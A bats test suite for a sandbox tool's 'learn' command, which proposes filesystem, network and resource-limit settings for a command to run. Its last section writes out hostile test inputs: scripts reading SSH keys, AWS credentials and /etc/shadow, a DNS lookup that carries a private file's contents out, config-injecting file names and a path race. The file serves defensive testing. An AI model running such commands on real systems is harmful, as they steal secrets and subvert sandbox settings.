#!/usr/bin/env bats
# shellcheck disable=SC2016,SC2030,SC2031,SC2154,SC2088 # the commands are for bailey; the helpers set variables
# bailey learn: for each project, the proposal makes a second run pass, and without any line of it the run fails. What a hostile command
# asks for is not proposed.

# shellcheck source=tests/cli/run_helper.bash
load run_helper.bash
# shellcheck source=tests/stage/stage_helper.bash
load ../stage/stage_helper.bash

setup_file() {
        # Directories of the host that are neither of the home nor of /tmp, which commands have one of their own of.
        export OUT=/srv/bailey-learn-$$
        if ! mkdir -p "$OUT" 2>/dev/null; then skip 'needs a directory in /srv that can be written'; fi
}

teardown_file() {
        rm -rf "$OUT"
}

eval "$(declare -f setup | sed '1s/setup/helper_setup/')"
setup() {
        helper_setup
        clean+=(XDG_RUNTIME_DIR="$BATS_TEST_TMPDIR/run" XDG_STATE_HOME="$BATS_TEST_TMPDIR/state")
        mkdir -p run "$BATS_TEST_TMPDIR/run"
        bailey run --backend native --stage=probe true 2>/dev/null || skip 'no overlay of a workspace works here'
        J=$BATS_TEST_TMPDIR/learned.json
        copies=$(compgen -G '/var/tmp/bailey-learn-*') || true
        D=$OUT/$BATS_TEST_NUMBER
        mkdir -p "$D"
}

teardown() {
        if [ -n "${server-}" ]; then kill "$server"; fi
        [ "$(compgen -G '/var/tmp/bailey-learn-*')" = "$copies" ] # copies of runs are gone
        if bailey stages | grep '^learn-'; then return 1; fi # and so are their stages
}

# learn ARGUMENT...: the proposal is in $J
learn() {
        bailey learn --json "$@" >"$J"
}

# config SKIPPED: all lines but this one, as a config
config() {
        jq -r --argjson skipped "$1" '[.lines | to_entries[] | select(.key != $skipped) | .value] | group_by(.key)[] |
                if .[0].list then "\(.[0].key) = \([.[].value] | tojson)" else "\(.[0].key) = \(.[0].value)" end' "$J" |
                sed 's/^sandbox.network.host_ports = .*/&/' >"$BATS_TEST_TMPDIR/lines.toml"
        printf '%s\n' "$BATS_TEST_TMPDIR/lines.toml"
}

# proven ARGUMENT...: learns; a second run with the lines passes, and without each of them it fails. Each in a stage, and with a home, of its own.
proven() {
        local i count
        learn "$@" || { cat "$J" && return 1; }
        jq -e .passes "$J" >/dev/null
        count=$(jq '.lines | length' "$J")
        [ "$count" -gt 0 ]
        jq -c '.lines[] | [.key, .value, .program]' "$J"
        # shellcheck disable=SC2046
        for ((i = -1; i < count; i++)); do
                # The kind of network is of no use without hosts, and the other way round; both fail.
                local got=0 args=("$@")
                rm -rf "$BATS_TEST_TMPDIR/again"
                cp -a "$W" "$BATS_TEST_TMPDIR/again"
                if [ "${args[0]}" = --trusted ]; then args=("${args[@]:1}"); fi
                bailey run --backend native --set sandbox.home_dir="$BATS_TEST_TMPDIR/homes-$i" --config "$(config "$i")" \
                        --stage="proof$i" "${args[@]}" >"$BATS_TEST_TMPDIR/said" 2>&1 || got=$?
                if [ "$i" = -1 ] && [ "$got" != 0 ]; then cat "$BATS_TEST_TMPDIR/said" && return 1; fi
                if [ "$i" != -1 ] && [ "$got" = 0 ]; then echo "line $i is not needed" && return 1; fi
                if [ -n "${again-}" ]; then eval "$again"; fi
        done
}

# lines JSON: exactly these, as KEY=VALUE
lines() {
        jq -r '.lines[] | "\(.key)=\(.value)"' "$J" | sort | diff - <(printf '%s\n' "$@" | sort)
}

# refused TEXT: it is listed with a reason, and in no line
unproposed() {
        jq -e --arg text "$1" '.not_proposed | any(.subject == $text)' "$J" >/dev/null || { cat "$J" && return 1; }
        jq -e --arg text "$1" '.lines | all(.value != $text)' "$J" >/dev/null
}

# ---- projects ----

@test "make that writes to ../out" {
        local P=$D/project
        mkdir -p "$P" "$D/out"
        W=$P
        cd "$P"
        printf 'all: ../out/prog\n../out/prog: prog.c\n\tgcc -o $@ $<\n' >Makefile
        echo 'int main(void) { return 0; }' >prog.c
        again='rm -f "$D/out/prog"' # what is allowed is written by the second run
        proven make
        lines "sandbox.fs_write_allow=$D/out"
        [ ! -e "$D/out/prog" ] || false
}

@test "learn itself writes nothing: not in the workspace, not where a line would allow it, not in the home" {
        bailey run --backend native true
        (cd "$D" && find . | sort) >"$BATS_TEST_TMPDIR/before"
        learn "echo x >new && echo y >$D/new && echo z >~/new && test -e $D/new"
        [ ! -e "$W/new" ]
        (cd "$D" && find . | sort) | diff "$BATS_TEST_TMPDIR/before" -
        run bailey run --backend native 'cat ~/new'
        [ "$status" = 1 ]
}

@test "python that reads a data set in ~/data: three files of it, and it is the directory" {
        mkdir ~/data
        for i in 1 2 3 4; do echo "a,$i" >~/data/part$i.csv; done
        echo 'import csv, os; print(sum(int(r[1]) for i in range(1, 5) for r in csv.reader(open(os.path.expanduser(f"~/data/part{i}.csv")))))' >sum.py
        proven 'python3 sum.py'
        lines 'sandbox.home_show=~/data'
}

@test "a test that reads ~/.config/tool" {
        mkdir -p ~/.config/tool
        echo 'level=3' >~/.config/tool/settings.ini
        proven 'grep -q level=3 ~/.config/tool/settings.ini'
        lines "sandbox.fs_read_allow=$HOME/.config/tool/settings.ini"
}

@test "git with its repository elsewhere" {
        git init -q --bare "$D/store.git"
        git -c user.name=a -c user.email=a@b --git-dir="$D/store.git" commit-tree -m x "$(git --git-dir="$D/store.git" hash-object -w -t tree /dev/null)" >"$D/id"
        git --git-dir="$D/store.git" update-ref refs/heads/main "$(cat "$D/id")"
        git --git-dir="$D/store.git" symbolic-ref HEAD refs/heads/main
        again='git --git-dir="$D/store.git" update-ref -d refs/tags/v1 || true'
        proven "git --git-dir=$D/store.git tag v1"
        jq -e --arg d "$D" '.lines | all(.key == "sandbox.fs_write_allow" and (.value | startswith($d + "/store.git")))' "$J"
        [ -z "$(git --git-dir="$D/store.git" tag)" ]
}

@test "ccache with its cache elsewhere" {
        command -v ccache >/dev/null || skip 'no ccache'
        mkdir "$D/cache"
        echo 'int x;' >x.c
        again='rm -rf "$D/cache"/*'
        proven "CCACHE_DIR=$D/cache CCACHE_NOSTATS=1 ccache gcc -c x.c"
        lines "sandbox.fs_write_allow=$D/cache"
}

@test "go with its caches elsewhere" {
        command -v go >/dev/null || skip 'no go'
        mkdir "$D/cache"
        printf 'module x\ngo 1.18\n' >go.mod
        printf 'package main\nfunc main() {}\n' >main.go
        again='rm -rf "$D/cache"/*'
        proven "GOFLAGS=-mod=mod GOTOOLCHAIN=local GOCACHE=$D/cache go vet ."
        lines "sandbox.fs_write_allow=$D/cache"
}

@test "a tool that writes its database" {
        sqlite3 "$D/work.db" 'create table t(a)'
        proven "sqlite3 $D/work.db 'insert into t values(1)'"
        jq -e --arg d "$D" '.lines | all(.value == $d or .value == $d + "/work.db")' "$J"
}

@test "node that writes a report" {
        command -v node >/dev/null || skip 'no node'
        proven "node -e 'require(\"fs\").writeFileSync(\"$D/report.json\", \"{}\")'"
        lines "sandbox.fs_write_allow=$D"
}

@test "tar that packs a directory of the home" {
        mkdir ~/photos
        echo 1 >~/photos/a.jpg
        proven 'tar -C ~ -cf photos.tar photos && tar -tf photos.tar photos/a.jpg'
        lines 'sandbox.home_show=~/photos'
}

@test "a private header file, and a library beside the workspace" {
        mkdir -p ~/include
        echo '#define ANSWER 42' >~/include/answer.h
        printf '#include <answer.h>\nint x = ANSWER;\n' >x.c
        proven "gcc -I$HOME/include -c x.c"
        jq -e '.lines | length == 1' "$J"
}

@test "java that reads a properties file of the home" {
        command -v javac >/dev/null || skip 'no java'
        mkdir ~/settings
        echo a=b >~/settings/app.properties
        cat >App.java <<'END'
import java.nio.file.*;
class App { public static void main(String[] a) throws Exception { System.out.println(Files.readString(Path.of(System.getenv("HOME"), "settings/app.properties"))); } }
END
        javac App.java
        proven 'java -XX:-UsePerfData App'
        lines "sandbox.fs_read_allow=$HOME/settings/app.properties"
}

# port PROGRAM...: starts a server on the host, whose port is $port
serve() {
        python3 -c '
import http.server, os, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = open(sys.argv[1] + self.path.split("?")[0], "rb").read() if os.path.isfile(sys.argv[1] + self.path.split("?")[0]) else b"{}"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
open(sys.argv[2], "w").write(str(s.server_port))
s.serve_forever()' "$1" "$BATS_TEST_TMPDIR/port" 3>&- &
        server=$!
        until_exists "$BATS_TEST_TMPDIR/port"
        eventually test -s "$BATS_TEST_TMPDIR/port"
        port=$(cat "$BATS_TEST_TMPDIR/port")
}

@test "a tool that needs a port of the host" {
        serve "$W"
        proven --trusted "curl -sSf http://127.0.0.1:$port/x"
        lines "sandbox.network.host_ports=$port"
}

@test "npm with a registry at a port of the host" {
        command -v npm >/dev/null || skip 'no npm'
        serve "$W"
        proven --trusted "npm view x --registry http://127.0.0.1:$port --fetch-retries 0 name || test \$? = 0"
        lines "sandbox.network.host_ports=$port"
}

@test "pip with an index at a port of the host" {
        python3 -m pip --version >/dev/null 2>&1 || skip 'no pip'
        mkdir -p "$D/simple/tiny" "$D/tiny-1.dist-info"
        python3 - "$D" <<'END'
import sys, zipfile
d = sys.argv[1]
z = zipfile.ZipFile(d + "/tiny-1-py3-none-any.whl", "w")
z.writestr("tiny.py", "")
z.writestr("tiny-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1\n")
z.writestr("tiny-1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
z.writestr("tiny-1.dist-info/RECORD", "tiny.py,,\ntiny-1.dist-info/METADATA,,\ntiny-1.dist-info/WHEEL,,\ntiny-1.dist-info/RECORD,,\n")
END
        serve "$D"
        echo '<a href="/tiny-1-py3-none-any.whl">tiny-1-py3-none-any.whl</a>' >"$D/simple/tiny/index.html"
        proven --trusted "python3 -m pip download -q --no-deps --retries 0 --disable-pip-version-check http://127.0.0.1:$port/tiny-1-py3-none-any.whl"
        lines "sandbox.network.host_ports=$port"
}

@test "a client of a unix socket of the host" {
        python3 -c '
import http.server, socketserver, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(200); self.end_headers()
    def address_string(self): return ""
    def log_message(self, *a): pass
socketserver.UnixStreamServer(sys.argv[1], H).serve_forever()' "$D/service.sock" 3>&- &
        server=$!
        until_exists "$D/service.sock"
        proven --trusted "curl -sSf --unix-socket $D/service.sock http://x/"
        lines "sandbox.unix_sockets.paths=$D/service.sock"
}

# limited KEY=VALUE: a limit that the user has set
limited() {
        mkdir -p ~/.config/bailey
        printf 'sandbox.%s\n' "$1" >~/.config/bailey/config.toml
}

@test "limits: memory, open files, the size of a file, threads" {
        limited 'max_memory_bytes = "96 MiB"'
        proven 'python3 -c "x = bytearray(150 << 20)"'
        lines sandbox.max_memory_bytes=201326592
        limited 'max_open_files = 20'
        proven 'python3 -c "x = [open(\"/dev/null\") for i in range(60)]"'
        limited 'max_file_bytes = "1 MiB"'
        proven 'head -c 1500000 /dev/zero >x'
        lines sandbox.max_file_bytes=2097152
        limited 'max_pids = 8'
        proven 'python3 -c "
import threading, time
t = [threading.Thread(target=time.sleep, args=(1,)) for i in range(12)]
[x.start() for x in t]"'
}

@test "several things at once; a command that needs nothing; one that cannot be helped" {
        mkdir ~/data
        echo 1 >~/data/in
        proven "cat ~/data/in >$D/copy"
        lines "sandbox.fs_read_allow=$HOME/data/in" "sandbox.fs_write_allow=$D"
        run bailey learn 'echo hello'
        [ "$status" = 0 ]
        [ "$output" = 'bailey: learn: the command passes as it is' ]
        run bailey learn 'exit 3'
        [ "$status" = 1 ]
        [[ $output == *'exit status 3 after 1 runs: the command fails, and nothing more was denied' ]]
}

# ---- the command itself ----

@test "--apply: the file of the workspace, which has to be trusted; that of the user; what it has stays" {
        mkdir ~/data
        echo 1 >~/data/in
        run bailey learn --apply 'cat ~/data/in'
        [ "$status" = 0 ]
        [[ $output == *'.bailey.toml is changed'*'bailey trust'* ]]
        run bailey run --backend native 'cat ~/data/in'
        [ "$status" != 0 ]
        bailey trust
        bailey run --backend native 'cat ~/data/in'
        rm .bailey.toml
        mkdir -p ~/.config/bailey
        printf '# mine\n[sandbox]\nfs_read_allow = ["/usr"] # all\n' >~/.config/bailey/config.toml
        run bailey learn --apply=user -- cat "$HOME/data/in"
        [ "$status" = 0 ]
        cat ~/.config/bailey/config.toml
        [ "$(cat ~/.config/bailey/config.toml)" = "# mine
[sandbox]
fs_read_allow = [\"$HOME/data/in\", \"/usr\"] # all" ]
        bailey run --backend native 'cat ~/data/in'
}

@test "the text: comments with the program, and a diff that patch takes; nothing is applied that does not pass" {
        mkdir ~/data
        echo 1 >~/data/in
        bailey learn 'cat ~/data/in' >"$BATS_TEST_TMPDIR/diff" 2>/dev/null
        grep -qx "#     cat: $HOME/data/in is not visible in the home directory of commands" "$BATS_TEST_TMPDIR/diff"
        patch -p0 <"$BATS_TEST_TMPDIR/diff"
        bailey config check .bailey.toml
        rm .bailey.toml
        run bailey learn --apply 'cat ~/data/in; false'
        [ "$status" = 1 ]
        [ ! -e .bailey.toml ]
}

@test "--keep-stage; usage; no stage, no runs; the log has every run" {
        mkdir ~/data
        echo 1 >~/data/in
        learn --keep-stage kept 'cp ~/data/in out'
        [[ $(bailey diff kept) == *out* ]]
        [ ! -e out ]
        bailey audit tail -n 0 --json | jq -se 'map(select(.description == "bailey learn" and .kind == "outcome")) | length >= 4'
        run bailey learn
        [ "$status" = 2 ]
        run bailey learn --apply=nobody true
        [ "$status" = 2 ]
        run bailey learn a b
        [ "$status" = 2 ]
        run bailey learn --set sandbox.backend=landlock 'touch marker'
        [ "$status" = 1 ]
        [[ $output == *stage* ]]
        [ ! -e marker ]
}

# ---- hostile commands ----

@test "secrets, wide directories, other users: listed, never proposed, never shown" {
        mkdir -p ~/.ssh ~/.aws ~/backup/.ssh
        echo KEY >~/.ssh/id_rsa
        echo KEY >~/.aws/credentials
        echo KEY >~/backup/.ssh/id_rsa
        echo list >~/backup/list
        learn --trusted --set guard.mode=off 'python3 -c "
import os
for p in (\"~/.ssh/id_rsa\", \"~/.ssh\", \"~/.aws\", \"/etc/shadow\", \"~/backup\", \"~/backup/.ssh/id_rsa\"):
    p = os.path.expanduser(p)
    try:
        print(os.listdir(p) if os.path.isdir(p) else open(p).read())
    except OSError: pass
for p in (\"/\", \"/etc\", \"/usr\", \"/root\", \"/home\", os.path.expanduser(\"~\") + \"/..\"):
    try: open(p + \"/evil\", \"w\")
    except OSError: pass
raise SystemExit(1)"' || true
        jq -e '.lines == []' "$J" || { cat "$J" && false; }
        run ! grep -q KEY "$J"
        for path in "$HOME/.ssh/id_rsa" "$HOME/.ssh" "$HOME/.aws" "$HOME/backup" /etc /usr; do unproposed "$path"; done
        jq -e '.passes == false' "$J"
}

@test "links that lead to secrets are followed before anything is decided" {
        mkdir -p ~/.ssh ~/links
        echo KEY >~/.ssh/id_rsa
        ln -s ../.ssh/id_rsa ~/links/key
        ln -s ../.ssh ~/links/dir
        ln -s / ~/links/root
        ln -s "$HOME/.ssh/id_rsa" key
        learn --set guard.mode=off 'cat ~/links/key ~/links/dir/id_rsa key ~/links/root; ls ~/links/root; exit 1' || true
        jq -e '.lines == []' "$J" || { cat "$J" && false; }
        run ! grep -q KEY "$J"
}

@test "names with line breaks and escapes: no line, and plain text wherever they are told" {
        mkdir ~/$'evil\n[guard]\nmode = "off"' ~/$'x\e]0;pwned\a'
        run bailey learn 'ls ~/evil* ~/x*; ls "$HOME/"$'"'"'evil\n[guard]\nmode = "off"'"'"' "$HOME/"$'"'"'x\e]0;pwned\a'"'"'; exit 1'
        [ "$status" = 1 ]
        [[ $output != *$'\e'* ]]
        [[ $output != *$'\n[guard]'* ]]
        learn 'python3 -c "
import os
open(\"/proc/self/comm\", \"w\").write(\"a\\nb\\x1b[2J\")
os.listdir(os.path.expanduser(\"~\") + \"/evil\\n[guard]\\nmode = \\\"off\\\"\")"' || true
        jq -e '.lines == []' "$J"
}

@test "a service of the host is not used, unless the command is trusted" {
        serve "$W"
        run bailey learn "curl -sSf http://127.0.0.1:$port/"
        [ "$status" = 1 ]
        [[ $output == *'a service of this host'*'use --trusted'* ]]
        learn "curl -sSf http://127.0.0.1:$port/" || true
        lines "sandbox.network.host_ports=$port" # told, and not tried
        jq -e '.runs == 1' "$J"
        mkdir ~/data
        echo PRIVATE >~/data/in
        learn --trusted "cat ~/data/in && curl -sSf http://127.0.0.1:$port/"
        lines "sandbox.fs_read_allow=$HOME/data/in" "sandbox.network.host_ports=$port"
}

@test "files of the user and a connection are not tried together, unless the command is trusted" {
        mkdir ~/data
        echo PRIVATE >~/data/in
        echo 'import os, socket; socket.getaddrinfo(open(os.path.expanduser("~/data/in")).read().strip() + ".example.org", 80)' >send.py
        run bailey learn 'python3 send.py'
        [ "$status" = 1 ]
        [[ $output == *'files of yours'*'use --trusted'* ]]
}

@test "a million distinct paths, and a path that changes while it is read" {
        cat >flood.c <<'END'
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static char path[64] = "/nonexistent/aaaa";
static void *flip(void *x) { for (;;) { strcpy(path, "/etc/shadow\0zz"); strcpy(path, "/nonexistent/aaaa"); } return x; }
int main(void) {
        pthread_t t;
        char text[64];
        pthread_create(&t, NULL, flip, NULL);
        for (int i = 0; i < 20000; i++) open(path, O_RDONLY);
        for (int i = 0; i < 200000; i++) { snprintf(text, sizeof(text), "/nonexistent/%d", i); access(text, F_OK); }
        return 1;
}
END
        gcc -O1 -pthread -o flood flood.c
        learn --timeout 120 ./flood || true
        jq -e '.lines == [] and (.passes | not)' "$J" || { head -c 2000 "$J" && false; }
}
